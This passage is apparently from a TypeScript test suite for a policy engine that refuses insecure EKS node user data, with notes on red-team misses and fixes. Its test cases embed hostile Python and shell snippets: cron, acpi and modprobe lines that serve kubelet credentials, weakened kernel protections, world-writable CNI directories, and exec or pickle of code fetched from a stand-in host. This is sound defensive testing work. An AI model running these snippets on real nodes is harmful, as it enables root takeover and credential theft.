// Red-team round 86 (python, fresh eyes) on EKS NODE user data (AL2023: python3.9): Python programs and pip run as
// root (policy-pack/engine/userDataReaders/pythonCode.ts pythonWriteRefusal / pythonWriteTargetRefusal,
// pythonCommandRuns; commandServers.ts literalCommandListeners; pipOptions.ts). Probed the neighbours of rounds 84/85
// from Python: KERNEL_PROTECTIONS (suid_dumpable, perf_event_paranoid, unprivileged_userfaultfd, bpf_jit_harden,
// protected_symlinks, ptrace_scope) and KERNEL_HELPERS written by open/pathlib/os.write/print(file=) and set by
// subprocess/os.system sysctl; root-read directories opened by os.chmod/os.chown/shutil.chown/Path.chmod and by argv
// chmod/chown/setfacl; other writers into readers' directories (logging FileHandler/basicConfig, subprocess stdout=,
// urlretrieve, unpack_archive, os.link, fileinput inplace, os.path.join / Path / f-string / bytes paths, mkstemp);
// readers' directories outside ROOT_READER_DIRECTORIES made by mkdir or named by the program (request-key.d, acpi
// events, supervisor, td-agent-bit, /run/modprobe.d); code loaded from fetched data (logging fileConfig, pickle,
// exec, shelve, multiprocessing managers); named-program options in argv (ssh ProxyCommand, tar --to-command, git
// core.sshCommand); literal argv root writes and loads (sysctl core_pattern, insmod, cp/ln/crontab, systemctl link);
// CURL_CA_BUNDLE, PYTHONPLATLIBDIR, pip -f URL, -r URL; secure twins (safe kernel values, own-state writes, 0o755,
// ast.literal_eval / json / yaml.safe_load of fetched data, pickle.dump, literal dictConfig, zipfile extractall,
// pip --proxy vs HTTPS_PROXY, --no-deps).
// Misses (19 insecure accepted, 3 secure refused), by class (dev-py86-NAME-rt86p):
// - KERNEL-PROTECTIONS-PY-WRITE (4 insecure): suid-dumpable, perf-paranoid-pathlib, bpf-jit-harden-osopen,
//   protected-symlinks: got []; pythonCode.ts's KERNEL_SETTING_FILE literal-write exemption checks kernel helpers
//   only, never loweredProtections. Fix: one kernel-setting judgment (helpers and protections) for every writer.
// - ARGV-COMMANDS-UNJUDGED (10 insecure): userfaultfd-subprocess, ptrace-scope-argv, os-system-sysctl,
//   setfacl-subprocess, chmod-argv-cni-bin, chown-argv-cni-netd, os-system-chmod, core-pattern-argv, insmod-argv,
//   systemctl-link-argv: got []; commandServers.ts literalCommandListeners judges a Python program's literal commands
//   for listeners, crontab and config-file writes only, not rootReads.ts's judgments of the same shell line. Fix: judge
//   each literal run (argv, os.system) as the shell line it is.
// - READER-DIRS-BY-NAME (5 insecure): mkdir-request-key, owner-dir-request-key, owner-dir-acpi, mkdir-acpi-parent,
//   mkdir-supervisor: got []; pythonWriteTargetRefusal still grants /etc directories by own name or by a first-level
//   mkdir unless the ROOT_READER_DIRECTORIES denylist names them. Fix: no /etc directory is a program's data; under
//   /run and /var/lib an allowlist of directories no root reader reads.
// - PY-CHMOD-MODE-UNREAD (1 secure): chmod-cni-bin-755: Python chmod/chown are "writes" whatever the mode. Fix: read
//   them as rootReads' openedPaths reads chmod/chown.
// - PY-STDOUT-FILE-UNREAD (1 secure): subprocess-stdout-log: stdout= a file fails closed. Fix: a write of that path.
// - PIP-PROXY-OPTION (1 secure): pip-proxy: --proxy is a "source" option while HTTPS_PROXY keeps trust. Fix: "none".
// Held: 38 of 57 insecure refused; 16 of 19 secure clean.
// Round 86 fixes (fix86-py): 18 of 19 insecure and 2 of 3 secure misses fixed (insmod-argv and chmod-cni-bin-755 still
// open); 8 insecure and 6 secure -fix86 neighbours.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const dev = devNodeCase;

/** What a refusal names (as round 83's file). */
const REFUSED =
    /serv|8001|9000|8080|kubernetes|tune\.py|srv|mnt|unread|not read|writes|cron|program|PYTHON|shell|run|pip|index|import|json|helper|plugin|command|sysctl|module|code|config|listen|kernel|0\.0\.0\.0/;

/** What the planted commands run: a server of /etc/kubernetes (the kubelet's kubeconfig and client key). */
const SHELL_LINE = "cd /etc/kubernetes && python3 -m http.server 8001";

/** `program` (`lines`) run as root from /var/lib/ops; `after` shell lines then; `before` first. */
const prog = (name: string, program: string, lines: string[], after: string[] = [], before: string[] = []) =>
    devNodeScript(name, [
        "mkdir -p /var/lib/ops /var/cache/ops /var/log/ops",
        ...before,
        ...heredocFile(program, lines),
        `cd /var/lib/ops && python3 ${program}`,
        ...after,
    ]);

/** /opt/ops/tune.py. */
const tune = (name: string, lines: string[], after: string[] = [], before: string[] = []) =>
    prog(name, "/opt/ops/tune.py", lines, after, before);

/** A program writing `text` at `path` (Python docs "Built-in Functions" open(): mode 'w' writes). */
const writes = (path: string, text: string) => [
    "import os",
    `os.makedirs(os.path.dirname(${JSON.stringify(path)}), exist_ok=True)`,
    `with open(${JSON.stringify(path)}, "w") as f:`,
    `    f.write(${JSON.stringify(text)})`,
];

/** A script of shell lines after the ops directories are made. */
const sh = (name: string, lines: string[]) =>
    devNodeScript(name, ["mkdir -p /var/lib/ops /var/cache/ops /var/log/ops", ...lines]);

/** `lines`, then /opt/ops/run.py (importing tenacity) run as root. */
const thenImport = (name: string, lines: string[]) =>
    sh(name, [
        ...lines,
        ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
        "python3 /opt/ops/run.py",
    ]);

const CRON_LINE = `* * * * * root ${SHELL_LINE}`;

const insecure: NodeCase[] = [
    // ===== A. round 85's KERNEL_PROTECTIONS, written by a Python program through /proc/sys =====
    // proc(5) /proc/sys/fs/suid_dumpable: 1 ("debug") dumps every process, set-user-ID ones too, as the
    // dumping user's file: a pod's user reads a root program's memory (credentials it held).
    // Was a MISS (fixed in round 86): (KERNEL-PROTECTIONS-PY-WRITE) insecure accepted (got []). pythonCode.ts pythonWriteRefusal's write-target loop (the KERNEL_SETTING_FILE literal-write exemption: "read as the shell's `echo TEXT > PATH`") lets a literal /proc/sys write through when writtenSysctls names no kernel helper (corePatternCommand, kernel.modprobe/hotplug); it never asks kernelSettings.ts loweredProtections, which the shell's routes (rootReads.ts) do since rounds 84/85. Fix (class): one kernel-setting judgment for every writer (shell redirection, sysctl, Python open/pathlib/os.write, any future language): helpers AND KERNEL_PROTECTIONS, from the same table.
    dev(
        "tune.py writes 1 to /proc/sys/fs/suid_dumpable",
        tune("dev-py86-suid-dumpable-rt86p", [
            'with open("/proc/sys/fs/suid_dumpable", "w") as f:',
            '    f.write("1")',
        ]),
        REFUSED,
    ),
    // perf_event_open(2) "/proc/sys/kernel/perf_event_paranoid": -1 lets every unprivileged process (each pod, no
    // capability) profile the kernel and other processes (kernel address and side channels).
    // Was a MISS (fixed in round 86): (KERNEL-PROTECTIONS-PY-WRITE) insecure accepted (got []). pythonCode.ts pythonWriteRefusal's write-target loop (the KERNEL_SETTING_FILE literal-write exemption: "read as the shell's `echo TEXT > PATH`") lets a literal /proc/sys write through when writtenSysctls names no kernel helper (corePatternCommand, kernel.modprobe/hotplug); it never asks kernelSettings.ts loweredProtections, which the shell's routes (rootReads.ts) do since rounds 84/85. Fix (class): one kernel-setting judgment for every writer (shell redirection, sysctl, Python open/pathlib/os.write, any future language): helpers AND KERNEL_PROTECTIONS, from the same table.
    dev(
        "tune.py: pathlib write_text -1 to perf_event_paranoid",
        tune("dev-py86-perf-paranoid-pathlib-rt86p", [
            "from pathlib import Path",
            'Path("/proc/sys/kernel/perf_event_paranoid").write_text("-1")',
        ]),
        REFUSED,
    ),
    // userfaultfd(2) "/proc/sys/vm/unprivileged_userfaultfd": 1 lets unprivileged processes stall kernel page faults
    // (the primitive of kernel use-after-free exploits from a container).
    // Was a MISS (fixed in round 86): (ARGV-COMMANDS-UNJUDGED) insecure accepted (got []). commandServers.ts literalCommandListeners (reached from pythonProgramListeners through pythonCode.ts pythonCommandRuns, os.system lines too) judges a Python program's literal commands only for listeners, crontab/at and cp/tee-like writes into nodeReadsAsConfig files; rootReads.ts's judgments of the same words as a shell line (loweredProtections and plantedKernelHelpers for sysctl, openedPaths for chmod/chown/setfacl, module loads, systemctl link of unread unit files) never run on them. Fix (class): hand each literal run to the shell script reader as the line it is (one command judgment), so argv and os.system commands are refused exactly when the same shell line is.
    dev(
        "tune.py: subprocess sysctl -w vm.unprivileged_userfaultfd=1",
        tune("dev-py86-userfaultfd-subprocess-rt86p", [
            "import subprocess",
            'subprocess.run(["sysctl", "-w", "vm.unprivileged_userfaultfd=1"], check=True)',
        ]),
        REFUSED,
    ),
    // Linux kernel docs admin-guide/sysctl/net "bpf_jit_harden": 0 disables JIT hardening (constant blinding) for
    // unprivileged BPF programs (JIT spraying from a pod).
    // Was a MISS (fixed in round 86): (KERNEL-PROTECTIONS-PY-WRITE) insecure accepted (got []). pythonCode.ts pythonWriteRefusal's write-target loop (the KERNEL_SETTING_FILE literal-write exemption: "read as the shell's `echo TEXT > PATH`") lets a literal /proc/sys write through when writtenSysctls names no kernel helper (corePatternCommand, kernel.modprobe/hotplug); it never asks kernelSettings.ts loweredProtections, which the shell's routes (rootReads.ts) do since rounds 84/85. Fix (class): one kernel-setting judgment for every writer (shell redirection, sysctl, Python open/pathlib/os.write, any future language): helpers AND KERNEL_PROTECTIONS, from the same table.
    dev(
        "tune.py: os.open/os.write 0 to /proc/sys/net/core/bpf_jit_harden",
        tune("dev-py86-bpf-jit-harden-osopen-rt86p", [
            "import os",
            'fd = os.open("/proc/sys/net/core/bpf_jit_harden", os.O_WRONLY)',
            'os.write(fd, b"0")',
            "os.close(fd)",
        ]),
        REFUSED,
    ),
    // core(5) "Piping core dumps to a program": core_pattern "|prog" runs prog as root at each crash, and a pod makes
    // a crash at will: the program-written helper runs as root.
    dev(
        "tune.py writes |/var/lib/ops/dump to /proc/sys/kernel/core_pattern",
        tune("dev-py86-core-pattern-rt86p", [
            'with open("/proc/sys/kernel/core_pattern", "w") as f:',
            '    f.write("|/var/lib/ops/dump %p")',
        ]),
        REFUSED,
    ),
    // proc(5) /proc/sys/kernel/modprobe: "the pathname of the kernel module loader" the kernel runs as root when a
    // pod's socket() of an unloaded family asks for a module.
    dev(
        "tune.py: print(..., file=open('/proc/sys/kernel/modprobe','w'))",
        tune("dev-py86-kernel-modprobe-print-rt86p", [
            'print("/var/lib/ops/mp", file=open("/proc/sys/kernel/modprobe", "w"))',
        ]),
        REFUSED,
    ),
    // ===== B. round 85's root-read directories opened, by a Python program =====
    // Kubernetes docs "Network Plugins": the kubelet/containerd run CNI plugins from /opt/cni/bin as root for every pod
    // sandbox; chmod(2) 0o777 lets any node user (a pod's hostPath user, ec2-user) replace them.
    dev(
        "tune.py: os.chmod('/opt/cni/bin', 0o777)",
        tune("dev-py86-chmod-cni-bin-rt86p", ["import os", 'os.chmod("/opt/cni/bin", 0o777)']),
        REFUSED,
    ),
    // chown(2): the CNI configuration directory (/etc/cni/net.d, whose conflist names the plugin binaries) handed to
    // uid 1000.
    dev(
        "tune.py: os.chown('/etc/cni/net.d', 1000, 1000)",
        tune("dev-py86-chown-cni-netd-rt86p", ["import os", 'os.chown("/etc/cni/net.d", 1000, 1000)']),
        REFUSED,
    ),
    // shutil docs shutil.chown(path, user=None, group=None): the same by name.
    dev(
        "tune.py: shutil.chown('/opt/cni/bin', user='ec2-user')",
        tune("dev-py86-shutil-chown-cni-bin-rt86p", ["import shutil", 'shutil.chown("/opt/cni/bin", user="ec2-user")']),
        REFUSED,
    ),
    // pathlib docs Path.chmod(mode); the kubelet plugin registration directory (CSI drivers' sockets the kubelet calls).
    dev(
        "tune.py: Path('/var/lib/kubelet/plugins_registry').chmod(0o777)",
        tune("dev-py86-pathlib-chmod-plugins-rt86p", [
            "from pathlib import Path",
            'Path("/var/lib/kubelet/plugins_registry").chmod(0o777)',
        ]),
        REFUSED,
    ),
    // stat docs: S_IRWXU|S_IRWXG|S_IRWXO is 0o777 (a computed mode).
    dev(
        "tune.py: os.chmod('/opt/cni/bin', stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)",
        tune("dev-py86-chmod-stat-mode-rt86p", [
            "import os, stat",
            'os.chmod("/opt/cni/bin", stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)',
        ]),
        REFUSED,
    ),
    // setfacl(1) -m u:1000:rwx through subprocess: an ACL grant is the same opening.
    // Was a MISS (fixed in round 86): (ARGV-COMMANDS-UNJUDGED) insecure accepted (got []). commandServers.ts literalCommandListeners (reached from pythonProgramListeners through pythonCode.ts pythonCommandRuns, os.system lines too) judges a Python program's literal commands only for listeners, crontab/at and cp/tee-like writes into nodeReadsAsConfig files; rootReads.ts's judgments of the same words as a shell line (loweredProtections and plantedKernelHelpers for sysctl, openedPaths for chmod/chown/setfacl, module loads, systemctl link of unread unit files) never run on them. Fix (class): hand each literal run to the shell script reader as the line it is (one command judgment), so argv and os.system commands are refused exactly when the same shell line is.
    dev(
        "tune.py: subprocess setfacl -m u:1000:rwx /opt/cni/bin",
        tune("dev-py86-setfacl-subprocess-rt86p", [
            "import subprocess",
            'subprocess.run(["setfacl", "-m", "u:1000:rwx", "/opt/cni/bin"], check=True)',
        ]),
        REFUSED,
    ),
    // ===== C. other writers into a root reader's directory =====
    // logging docs basicConfig(filename=...): "Specifies that a FileHandler be created, using the specified filename";
    // format "%(message)s" makes each record a crontab(5) line run as root by crond.
    dev(
        "tune.py: logging.basicConfig(filename='/etc/cron.d/ops') logs a cron line",
        tune("dev-py86-logging-file-cron-rt86p", [
            "import logging",
            'logging.basicConfig(filename="/etc/cron.d/ops", format="%(message)s")',
            `logging.warning(${JSON.stringify(CRON_LINE)})`,
        ]),
        REFUSED,
    ),
    // logging.handlers docs WatchedFileHandler(filename): a handler object on /etc/profile.d (sourced by login shells).
    dev(
        "tune.py: logging.handlers.WatchedFileHandler('/etc/profile.d/ops.sh')",
        tune("dev-py86-watched-handler-profile-rt86p", [
            "import logging, logging.handlers",
            'h = logging.handlers.WatchedFileHandler("/etc/profile.d/ops.sh")',
            "log = logging.getLogger('ops'); log.addHandler(h)",
            `log.warning(${JSON.stringify(SHELL_LINE)})`,
        ]),
        REFUSED,
    ),
    // subprocess docs: stdout "a file object ... the child's file handle": echo's output becomes /etc/cron.d/ops.
    dev(
        "tune.py: subprocess.run(['echo', line], stdout=open('/etc/cron.d/ops','w'))",
        tune("dev-py86-subprocess-stdout-cron-rt86p", [
            "import subprocess",
            `subprocess.run(["echo", ${JSON.stringify(CRON_LINE)}], stdout=open("/etc/cron.d/ops", "w"))`,
        ]),
        REFUSED,
    ),
    // urllib.request docs urlretrieve(url, filename): "Copy a network object denoted by a URL to a local file" — a
    // remote script becomes /etc/profile.d/ops.sh (sourced by root's login shells).
    dev(
        "tune.py: urlretrieve(https://ops.example/ops.sh, /etc/profile.d/ops.sh)",
        tune("dev-py86-urlretrieve-profile-rt86p", [
            "import urllib.request",
            'urllib.request.urlretrieve("https://ops.example/ops.sh", "/etc/profile.d/ops.sh")',
        ]),
        REFUSED,
    ),
    // shutil docs unpack_archive(filename, extract_dir): every member lands below /etc/systemd/system (units).
    dev(
        "tune.py: shutil.unpack_archive(units.tgz, /etc/systemd/system)",
        tune("dev-py86-unpack-archive-units-rt86p", [
            "import shutil",
            'shutil.unpack_archive("/var/cache/ops/units.tgz", "/etc/systemd/system")',
        ]),
        REFUSED,
    ),
    // os docs os.link(src, dst): a hard link of program data in /etc/cron.d is the same inode crond reads.
    dev(
        "tune.py writes /var/lib/ops/job; os.link into /etc/cron.d/ops",
        tune("dev-py86-hardlink-cron-rt86p", [
            ...writes("/var/lib/ops/job", CRON_LINE + "\n"),
            'os.link("/var/lib/ops/job", "/etc/cron.d/ops")',
        ]),
        REFUSED,
    ),
    // fileinput docs inplace=True: "the file is moved to a backup file and standard output is directed to the input
    // file": the kubelet configuration nodeadm wrote, with anonymous authentication turned on (kubelet docs
    // "Kubelet authentication": anonymous requests to :10250 exec into pods).
    dev(
        "tune.py: fileinput inplace edit of /etc/kubernetes/kubelet/config.json (anonymous on)",
        tune("dev-py86-fileinput-kubelet-rt86p", [
            "import fileinput",
            'for line in fileinput.input("/etc/kubernetes/kubelet/config.json", inplace=True):',
            '    print(line.replace(\'"enabled": false\', \'"enabled": true\'), end="")',
        ]),
        REFUSED,
    ),
    // os.path docs join: the computed path is /etc/cron.d/ops.
    dev(
        "tune.py: open(os.path.join('/etc', 'cron.d', 'ops'), 'w')",
        tune("dev-py86-pathjoin-cron-rt86p", [
            "import os",
            'with open(os.path.join("/etc", "cron.d", "ops"), "w") as f:',
            `    f.write(${JSON.stringify(CRON_LINE + "\n")})`,
        ]),
        REFUSED,
    ),
    // pathlib docs: the / operator "to create child paths".
    dev(
        "tune.py: (Path('/etc') / 'cron.d' / 'ops').write_text(...)",
        tune("dev-py86-path-div-cron-rt86p", [
            "from pathlib import Path",
            `(Path("/etc") / "cron.d" / "ops").write_text(${JSON.stringify(CRON_LINE + "\n")})`,
        ]),
        REFUSED,
    ),
    // An f-string of a variable: the path is /etc/cron.d/ops.
    dev(
        "tune.py: d = 'cron.d'; open(f'/etc/{d}/ops', 'w')",
        tune("dev-py86-fstring-cron-rt86p", [
            'd = "cron.d"',
            'with open(f"/etc/{d}/ops", "w") as f:',
            `    f.write(${JSON.stringify(CRON_LINE + "\n")})`,
        ]),
        REFUSED,
    ),
    // open() docs: file "is a path-like object ... (str or bytes)": a bytes path.
    dev(
        "tune.py: open(b'/etc/cron.d/ops', 'w')",
        tune("dev-py86-bytes-path-cron-rt86p", [
            'with open(b"/etc/cron.d/ops", "w") as f:',
            `    f.write(${JSON.stringify(CRON_LINE + "\n")})`,
        ]),
        REFUSED,
    ),
    // tempfile docs mkstemp(dir=...): "the file will be created in that directory": a random name in cron.d (crontab(5)
    // reads every file of valid name; mkstemp names are [a-z0-9_]).
    dev(
        "tune.py: tempfile.mkstemp(dir='/etc/cron.d')",
        tune("dev-py86-mkstemp-cron-rt86p", [
            "import os, tempfile",
            'fd, p = tempfile.mkstemp(dir="/etc/cron.d", prefix="ops")',
            `os.write(fd, ${JSON.stringify(CRON_LINE + "\n")}.encode())`,
        ]),
        REFUSED,
    ),
    // ===== D. readers' directories outside ROOT_READER_DIRECTORIES, named by mkdir (round 83's allowlist) =====
    // request-key.conf(5): "/etc/request-key.d/*.conf" name "the program ... exec'd" by /sbin/request-key, which the
    // kernel runs as root when any process (a pod: keyctl is not in the default-unconfined seccomp) calls
    // request_key(2) for a matching key.
    // Was a MISS (fixed in round 86): (READER-DIRS-BY-NAME) insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: under /etc an own name (programOwnNames) or a made directory (madeForProgram, which tests only the first level: `mkdir -p /etc/acpi` makes /etc/acpi/events data too) still makes a directory data unless ROOT_READER_DIRECTORIES, a denylist of reader names, lists it; request-key.d, acpi and supervisor are not listed (nor in PROGRAM_DATA_PATHS' exclusions). Fix (class): what round 83's comment says: under /etc no directory is a program's data (FHS 3.0 /etc is host configuration), whatever its name or who made it; under /run and /var/lib an allowlist of directories known to be read by no root reader, failing closed on the rest.
    // Round 86 fix: not the blanket rule (no /etc directory is data): three committed secure cases write their program's own /etc/<name>/FILE (dev-py80-etc-ops-own-fix81, dev-py82-etc-stem-json-fix82, dev-py82-etc-app-json-rt82p). pythonCode.ts etcReaderLayout: an own name or mkdir vouches only for files directly in /etc/<name>, never below a subdirectory (acpi/events) nor in a NAME.d drop-in directory (request-key.d); ROOT_READER_DIRECTORIES now names acpi, request-key.d, supervisor.
    dev(
        "mkdir -p /etc/request-key.d; tune.py writes ops.conf (create user ops:* * |prog)",
        tune(
            "dev-py86-mkdir-request-key-rt86p",
            writes("/etc/request-key.d/ops.conf", "create user ops:* * /var/lib/ops/handler %k\n"),
            [],
            ["mkdir -p /etc/request-key.d"],
        ),
        REFUSED,
    ),
    // acpid(8): rules in /etc/acpi/events, "The action value is a commandline, which will be invoked via /bin/sh".
    dev(
        "mkdir -p /etc/acpi/events; tune.py writes a rule (action=)",
        tune(
            "dev-py86-mkdir-acpi-events-rt86p",
            writes("/etc/acpi/events/ops", `event=.*\naction=/bin/sh -c '${SHELL_LINE}'\n`),
            [],
            ["mkdir -p /etc/acpi/events"],
        ),
        REFUSED,
    ),
    // acpid(8), the program named after the reader (/opt/acpi/rules.py: own name "acpi").
    // Was a MISS (fixed in round 86): (READER-DIRS-BY-NAME) insecure accepted (got []). pythonCode.ts pythonWriteTargetRefusal: under /etc an own name (programOwnNames) or a made directory (madeForProgram, which tests only the first level: `mkdir -p /etc/acpi` makes /etc/acpi/events data too) still makes a directory data unless ROOT_READER_DIRECTORIES, a denylist of reader names, lists it; request-key.d, acpi and supervisor are not listed (nor in PROGRAM_DATA_PATHS' exclusions). Fix (class): what round 83's comment says: under /etc no directory is a program's data (FHS 3.0 /etc is host configuration), whatever its name or who made it; under /run and /var/lib an allowlist of directories known to be read by no root reader, failing closed on the rest.
    // Round 86 fix: not the blanket rule (no /etc directory is data): three committed secure cases write their program's own /etc/<name>/FILE (dev-py80-etc-ops-own-fix81, dev-py82-etc-stem-json-fix82, dev-py82-etc-app-json-rt82p). pythonCode.ts etcReaderLayout: an own name or mkdir vouches only for files directly in /etc/<name>, never below a subdirectory (acpi/events) nor in a NAME.d drop-in directory (request-key.d); ROOT_READER_DIRECTORIES now names acpi, request-key.d, supervisor.
    dev(
        "/opt/acpi/rules.py writes /etc/acpi/events/ops (action=)",
        prog(
            "dev-py86-owner-dir-acpi-rt86p",
            "/opt/acpi/rules.py",
            writes("/etc/acpi/events/ops", `event=.*\naction=/bin/sh -c '${SHELL_LINE}'\n`),
        ),
        REFUSED,
    ),
    // modprobe.d(5): "/run/modprobe.d/*.conf"; "install modulename command...": the command runs as root instead of
    // loading the module (here at once, and whenever a pod's socket() autoloads it).
    dev(
        "mkdir -p /run/modprobe.d; tune.py writes install line; modprobe dummy",
        tune(
            "dev-py86-mkdir-run-modprobe-rt86p",
            writes("/run/modprobe.d/ops.conf", `install dummy /bin/sh -c '${SHELL_LINE}'\n`),
            ["modprobe dummy"],
            ["mkdir -p /run/modprobe.d"],
        ),
        REFUSED,
    ),
    // ===== E. code loaded from what a program fetched or a config it read =====
    // logging.config docs "Security considerations": fileConfig/dictConfig mechanisms "could be used to invoke any
    // code you like": a configuration downloaded at boot is code (args= is eval'd).
    dev(
        "tune.py: urlretrieve log.ini; logging.config.fileConfig(it)",
        tune("dev-py86-logging-fileconfig-remote-rt86p", [
            "import logging.config, urllib.request",
            'urllib.request.urlretrieve("https://ops.example/log.ini", "/var/cache/ops/log.ini")',
            'logging.config.fileConfig("/var/cache/ops/log.ini")',
        ]),
        REFUSED,
    ),
    // pickle docs: "Warning: The pickle module is not secure. Only unpickle data you trust ... construct malicious
    // pickle data which will execute arbitrary code during unpickling".
    dev(
        "tune.py: pickle.loads(urlopen(https://ops.example/model).read())",
        tune("dev-py86-pickle-loads-url-rt86p", [
            "import pickle, urllib.request",
            'model = pickle.loads(urllib.request.urlopen("https://ops.example/model.pkl").read())',
        ]),
        REFUSED,
    ),
    // Built-in exec(): the response body is run as Python, as root.
    dev(
        "tune.py: exec(urlopen(https://ops.example/tune.py).read())",
        tune("dev-py86-exec-url-rt86p", [
            "import urllib.request",
            'exec(urllib.request.urlopen("https://ops.example/tune.py").read())',
        ]),
        REFUSED,
    ),
    // shelve docs: "Because the shelve module is backed by pickle, it is insecure to load a shelf from an untrusted
    // source"; the shelf is a file this program downloaded.
    dev(
        "tune.py: urlretrieve a shelf; shelve.open(it)",
        tune("dev-py86-shelve-remote-rt86p", [
            "import shelve, urllib.request",
            'urllib.request.urlretrieve("https://ops.example/state.db", "/var/cache/ops/state.db")',
            'with shelve.open("/var/cache/ops/state") as s:',
            '    print(s.get("x"))',
        ]),
        REFUSED,
    ),
    // multiprocessing docs "Managers": a manager server on ('', 50000) unpickles what clients send (authkey only
    // guards it; a literal key in user data, which pods read from IMDS when the hop limit allows): a network root
    // code server.
    dev(
        "tune.py: BaseManager(address=('', 50000), authkey=b'ops').get_server().serve_forever()",
        tune("dev-py86-mp-manager-any-rt86p", [
            "from multiprocessing.managers import BaseManager",
            'm = BaseManager(address=("", 50000), authkey=b"ops")',
            "m.get_server().serve_forever()",
        ]),
        REFUSED,
    ),
    // ===== F. programs named by options of a Python subprocess argv (round 84's named-program options) =====
    // ssh_config(5) ProxyCommand: "Specifies the command to use to connect to the server ... executed using the
    // user's shell".
    dev(
        "tune.py: subprocess ssh -o ProxyCommand=<shell line> host",
        tune("dev-py86-ssh-proxycommand-argv-rt86p", [
            "import subprocess",
            `subprocess.run(["ssh", "-o", ${JSON.stringify("ProxyCommand=sh -c '" + SHELL_LINE + "'")}, "ops.example", "true"])`,
        ]),
        REFUSED,
    ),
    // GNU tar manual "--to-command=COMMAND": "Extract files and pipe their contents to the standard input of COMMAND"
    // (run by the shell).
    dev(
        "tune.py: subprocess tar --to-command=<shell line> -xf archive",
        tune("dev-py86-tar-to-command-argv-rt86p", [
            "import subprocess",
            `subprocess.run(["tar", ${JSON.stringify("--to-command=sh -c '" + SHELL_LINE + "'")}, "-xf", "/var/cache/ops/a.tar"])`,
        ]),
        REFUSED,
    ),
    // git-config(1) core.sshCommand: "git fetch and git push will use the specified command instead of ssh".
    dev(
        "tune.py: subprocess git -c core.sshCommand=<shell line> fetch",
        tune("dev-py86-git-sshcommand-argv-rt86p", [
            "import subprocess",
            `subprocess.run(["git", "-c", ${JSON.stringify("core.sshCommand=sh -c '" + SHELL_LINE + "'")}, "-C", "/var/lib/ops/repo", "fetch"])`,
        ]),
        REFUSED,
    ),
    // ===== G. trust and locating variables =====
    // requests docs "SSL Cert Verification": "REQUESTS_CA_BUNDLE ... falls back to CURL_CA_BUNDLE" — pip's vendored
    // requests trusts a program-written CA: the index's TLS is whoever that CA vouches for.
    dev(
        "tune.py writes ca.pem; CURL_CA_BUNDLE=it pip3 install tenacity; import",
        tune("dev-py86-curl-ca-bundle-pip-rt86p", writes("/var/lib/ops/ca.pem", "-----BEGIN CERTIFICATE-----\n"), [
            "CURL_CA_BUNDLE=/var/lib/ops/ca.pem pip3 install tenacity",
            ...heredocFile("/opt/ops/run.py", ["import tenacity"]),
            "python3 /opt/ops/run.py",
        ]),
        REFUSED,
    ),
    // Python docs cmdline PYTHONPLATLIBDIR "overrides the sys.platlibdir value"; sys.platlibdir "is used to build the
    // path of standard library and the paths of installed extension modules": ../../var/lib/ops makes the
    // program-written directory the stdlib's lib-dynload.
    dev(
        "PYTHONPLATLIBDIR=../../var/lib/ops python3 run.py",
        tune("dev-py86-platlibdir-rt86p", writes("/var/lib/ops/python3.9/lib-dynload/x", "ELF"), [
            ...heredocFile("/opt/ops/run.py", ["print('ok')"]),
            "PYTHONPLATLIBDIR=../../var/lib/ops python3 /opt/ops/run.py",
        ]),
        REFUSED,
    ),
    // pip docs "pip install" -f/--find-links "If a URL or path to an html file, then parse for links to archives":
    // a second source of wheels.
    dev(
        "pip3 install -f https://wheels.ops.example/ tenacity; import",
        thenImport("dev-py86-find-links-url-rt86p", ["pip3 install -f https://wheels.ops.example/ tenacity"]),
        REFUSED,
    ),
    // pip docs "Requirements File Format": -r may name a URL; its lines (and -i/--extra-index-url options) come from
    // that server.
    dev(
        "pip3 install -r https://ops.example/req.txt; import",
        thenImport("dev-py86-req-url-rt86p", ["pip3 install -r https://ops.example/req.txt"]),
        REFUSED,
    ),
    // ===== H. batch 2: depth on the misses =====
    // Linux admin-guide sysctl/fs "protected_symlinks": 0 lets a pod's user plant a symlink in a sticky world-writable
    // directory (/tmp) that root follows (round 84's KERNEL_PROTECTIONS), written by Python.
    // Was a MISS (fixed in round 86): (KERNEL-PROTECTIONS-PY-WRITE) insecure accepted (got []). pythonCode.ts pythonWriteRefusal's write-target loop (the KERNEL_SETTING_FILE literal-write exemption: "read as the shell's `echo TEXT > PATH`") lets a literal /proc/sys write through when writtenSysctls names no kernel helper (corePatternCommand, kernel.modprobe/hotplug); it never asks kernelSettings.ts loweredProtections, which the shell's routes (rootReads.ts) do since rounds 84/85. Fix (class): one kernel-setting judgment for every writer (shell redirection, sysctl, Python open/pathlib/os.write, any future language): helpers AND KERNEL_PROTECTIONS, from the same table.
    dev(
        "tune.py writes 0 to /proc/sys/fs/protected_symlinks",
        tune("dev-py86-protected-symlinks-rt86p", [
            'with open("/proc/sys/fs/protected_symlinks", "w") as f:',
            '    f.write("0")',
        ]),
        REFUSED,
    ),
    // Yama (admin-guide LSM/Yama) ptrace_scope 0: "classic ptrace permissions": any process ptraces every other of
    // its uid; sysctl(8) "variable=value" sets it (no -w needed), through subprocess.
    // Was a MISS (fixed in round 86): (ARGV-COMMANDS-UNJUDGED) insecure accepted (got []). commandServers.ts literalCommandListeners (reached from pythonProgramListeners through pythonCode.ts pythonCommandRuns, os.system lines too) judges a Python program's literal commands only for listeners, crontab/at and cp/tee-like writes into nodeReadsAsConfig files; rootReads.ts's judgments of the same words as a shell line (loweredProtections and plantedKernelHelpers for sysctl, openedPaths for chmod/chown/setfacl, module loads, systemctl link of unread unit files) never run on them. Fix (class): hand each literal run to the shell script reader as the line it is (one command judgment), so argv and os.system commands are refused exactly when the same shell line is.
    dev(
        "tune.py: subprocess sysctl kernel.yama.ptrace_scope=0",
        tune("dev-py86-ptrace-scope-argv-rt86p", [
            "import subprocess",
            'subprocess.check_call(["sysctl", "kernel.yama.ptrace_scope=0"])',
        ]),
        REFUSED,
    ),
    // chmod(1) through subprocess: the same opening of /opt/cni/bin as os.chmod (refused above).
